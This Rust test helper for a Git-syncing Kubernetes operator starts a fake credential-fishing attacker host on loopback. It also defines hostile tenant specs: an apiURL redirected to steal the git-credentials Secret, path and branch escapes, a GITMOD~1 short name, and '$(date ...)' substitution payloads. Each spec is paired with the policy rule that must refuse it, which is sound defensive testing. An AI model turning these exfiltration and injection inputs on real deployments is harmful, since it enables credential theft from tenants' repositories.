//! A host a hostile tenant controls: it records every request, whatever the method or path, and
//! answers git's and the forges' requests with a Basic challenge, fishing for credentials.
//! Tenant-attack tests point specs at it and assert that no credential ever arrives.

use std::{
    net::SocketAddr,
    sync::{Arc, Mutex},
};

use anyhow::Result;
use axum::{
    Router,
    body::Bytes,
    extract::State,
    http::{HeaderMap, Method, StatusCode, Uri, header},
    response::IntoResponse,
};
use tokio::net::TcpListener;

/// One request the attacker's host received.
#[derive(Clone, Debug)]
pub struct Request {
    pub method: Method,
    pub uri: Uri,
    pub headers: HeaderMap,
    pub body: Bytes,
}

impl Request {
    /// Whether `secret` appears anywhere in the request: its URI, a header or the body.
    pub fn carries(&self, secret: &str) -> bool {
        self.uri.to_string().contains(secret)
            || self
                .headers
                .values()
                .any(|v| String::from_utf8_lossy(v.as_bytes()).contains(secret))
            || String::from_utf8_lossy(&self.body).contains(secret)
    }
}

type Log = Arc<Mutex<Vec<Request>>>;

/// What the attacker's host answers.
#[derive(Clone)]
enum Answer {
    /// 401 with a Basic challenge: fishing for credentials.
    Challenge,
    /// 302 to the same path on another origin: an open redirect on an allowed host.
    Redirect(String),
}

/// The attacker's HTTP server on 127.0.0.1, running on the current tokio runtime.
pub struct AttackerHost {
    addr: SocketAddr,
    log: Log,
}

impl AttackerHost {
    pub async fn start() -> Result<Self> {
        Self::answering("127.0.0.1", Answer::Challenge).await
    }

    /// The attacker's host on another loopback address, `127.0.0.2`: another host, as far as
    /// any client can tell.
    pub async fn start_elsewhere() -> Result<Self> {
        Self::answering("127.0.0.2", Answer::Challenge).await
    }

    /// A host that redirects every request to the same path on `origin`.
    pub async fn redirecting_to(origin: &str) -> Result<Self> {
        Self::answering("127.0.0.1", Answer::Redirect(origin.to_owned())).await
    }

    async fn answering(ip: &str, answer: Answer) -> Result<Self> {
        let log = Log::default();
        let app = Router::new()
            .fallback(record)
            .with_state((log.clone(), answer));
        let listener = TcpListener::bind((ip, 0)).await?;
        let addr = listener.local_addr()?;
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Ok(Self { addr, log })
    }

    /// `http://127.0.0.1:<port>`.
    pub fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Everything received so far.
    pub fn requests(&self) -> Vec<Request> {
        self.log.lock().map(|r| r.clone()).unwrap_or_default()
    }

    /// The requests that carried an `Authorization` header or any of `secrets`.
    pub fn leaks(&self, secrets: &[&str]) -> Vec<Request> {
        self.requests()
            .into_iter()
            .filter(|r| {
                r.headers.contains_key(header::AUTHORIZATION)
                    || secrets.iter().any(|s| r.carries(s))
            })
            .collect()
    }
}

async fn record(
    State((log, answer)): State<(Log, Answer)>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> axum::response::Response {
    let path = uri
        .path_and_query()
        .map(|p| p.as_str().to_owned())
        .unwrap_or_default();
    if let Ok(mut log) = log.lock() {
        log.push(Request {
            method,
            uri,
            headers,
            body,
        });
    }
    match answer {
        Answer::Challenge => (
            StatusCode::UNAUTHORIZED,
            [(header::WWW_AUTHENTICATE, "Basic realm=\"attacker\"")],
            "credentials, please",
        )
            .into_response(),
        Answer::Redirect(origin) => (
            StatusCode::FOUND,
            [(header::LOCATION, format!("{origin}{path}"))],
            "moved",
        )
            .into_response(),
    }
}

/// One attack: a hostile spec, and the field and rule that must refuse it.
pub struct Attack {
    pub name: &'static str,
    pub kind: &'static str,
    pub spec: serde_json::Value,
    /// The field the refusal names.
    pub field: &'static str,
    /// The rule codes that may refuse it (one of them must).
    pub rules: &'static [&'static str],
    /// The Ready reason the controller ends in when the webhook did not refuse it first.
    pub controller_reason: &'static str,
}

impl Attack {
    /// The object to create, named after the attack.
    pub fn object(&self) -> serde_json::Value {
        serde_json::json!({
            "apiVersion": "gco.galos.one/v1", "kind": self.kind,
            "metadata": {"name": self.name},
            "spec": self.spec
        })
    }
}

/// The Secret the attacks try to exfiltrate.
pub const CREDENTIALS: &str = "git-credentials";

/// The policy the attacks run under: any repository (no allow-list, as by default), only
/// `main`, only the `clusters` folder, small files, and the schemes the test servers use.
pub fn attack_policy() -> serde_json::Value {
    serde_json::json!({
        "allowedSchemes": ["git", "http"],
        "repositories": [{"url": "**", "branches": ["main"]}],
        "paths": {"allowedPrefixes": ["clusters"]},
        "limits": {"maxFileBytes": 1024}
    })
}

/// Every attack of docs/security.md that a spec can carry. `attacker` is the attacker's origin
/// (`http://127.0.0.1:<port>`), `repo` a repository the tenant may use.
pub fn attacks(attacker: &str, repo: &str) -> Vec<Attack> {
    use serde_json::json;
    let file = |path: &str, content: &str| json!([{"path": path, "content": content}]);
    let commit = |extra: serde_json::Value| {
        let mut spec = json!({
            "repository": {"url": repo, "branch": "main"},
            "files": file("clusters/ok.txt", "ok")
        });
        for (key, value) in extra.as_object().into_iter().flatten() {
            spec[key] = value.clone();
        }
        spec
    };
    let pull_request = |extra: serde_json::Value| {
        let mut spec = json!({
            "repository": {"url": "https://github.com/company/repo.git", "baseBranch": "main", "provider": "github"},
            "pullRequest": {"title": "sync"},
            "files": file("clusters/ok.txt", "ok")
        });
        for (key, value) in extra.as_object().into_iter().flatten() {
            spec[key] = value.clone();
        }
        spec
    };
    vec![
        Attack {
            name: "forge-token-to-attacker",
            kind: "PullRequest",
            spec: pull_request(json!({
                "repository": {
                    "url": "https://github.com/company/repo.git", "baseBranch": "main",
                    "provider": "github", "apiURL": format!("{attacker}/api/v3")
                },
                "auth": {"secretName": CREDENTIALS}
            })),
            field: "spec.repository.apiURL",
            rules: &["api-url"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "repository-dot-segment",
            kind: "GitCommit",
            spec: commit(json!({"repository": {
                "url": "https://github.com/company/../other-team/repo.git", "branch": "main"
            }})),
            field: "spec.repository.url",
            rules: &["repository-url"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "unknown-kind",
            kind: "GitCommit",
            spec: commit(json!({"resourceReferences": [{
                "apiVersion": "example.com/v1", "kind": "Widget", "name": "w",
                "strategy": "dump", "output": {"path": "clusters/w.yaml"}
            }]})),
            field: "spec.resourceReferences[0].kind",
            rules: &["unknown-kind"],
            controller_reason: "RenderFailed",
        },
        Attack {
            name: "placeholder-padding",
            kind: "GitCommit",
            spec: commit(json!({"files": file("clusters/x.txt", "$(date +%255Y)")})),
            field: "spec.files[0].content",
            rules: &["placeholder"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "rendered-size",
            kind: "GitCommit",
            spec: commit(json!({"files": file("clusters/x.txt", &"$(date)".repeat(100))})),
            field: "spec.files[0].content",
            rules: &["max-file-bytes"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "head-branch-escape",
            kind: "PullRequest",
            spec: pull_request(
                json!({"pullRequest": {"title": "sync", "headBranch": "release/2.0"}}),
            ),
            field: "spec.pullRequest.headBranch",
            rules: &["branch-allowed", "head-branch"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "spoofed-run-trailer",
            kind: "GitCommit",
            spec: commit(json!({"commit": {"message": "sync\n\nGco-Run: 0123456789abcdef"}})),
            field: "spec.commit.message",
            rules: &["reserved-trailer"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "gitmodules-short-name",
            kind: "GitCommit",
            spec: commit(json!({"files": file("clusters/GITMOD~1", "[submodule]")})),
            field: "spec.files[0].path",
            rules: &["path-safety"],
            controller_reason: "PolicyDenied",
        },
        Attack {
            name: "prefix-boundary",
            kind: "GitCommit",
            spec: commit(json!({"files": file("clusters-evil/x.txt", "x")})),
            field: "spec.files[0].path",
            rules: &["path-prefix"],
            controller_reason: "PolicyDenied",
        },
    ]
}
